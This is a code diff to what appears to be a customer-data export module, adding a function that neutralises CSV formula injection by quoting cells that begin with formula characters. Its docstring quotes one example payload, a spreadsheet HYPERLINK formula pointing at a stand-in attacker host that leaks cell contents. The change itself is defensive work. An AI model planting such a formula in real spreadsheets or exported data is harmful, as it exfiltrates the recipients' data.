@@ -39,6 +39,21 @@ EXPORT_COLUMNS = (
 )
 PAGE = 1_000
 
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+"""Leading characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a
+cell as a formula or a command: OWASP's list for CSV injection."""
+
+
+def spreadsheet_safe(text: str) -> str:
+    """``text`` as a spreadsheet shows it, never runs it: a leading formula character gets
+    a single quote before it (OWASP's recommendation; the quote marks the cell as text).
+
+    A customer writes the comments and the names, so a Telegram answer such as
+    ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would otherwise reach the
+    retention team's spreadsheet as a live formula that can send its cells away.
+    """
+    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
+
 
 @dataclass
 class ExportRecord:
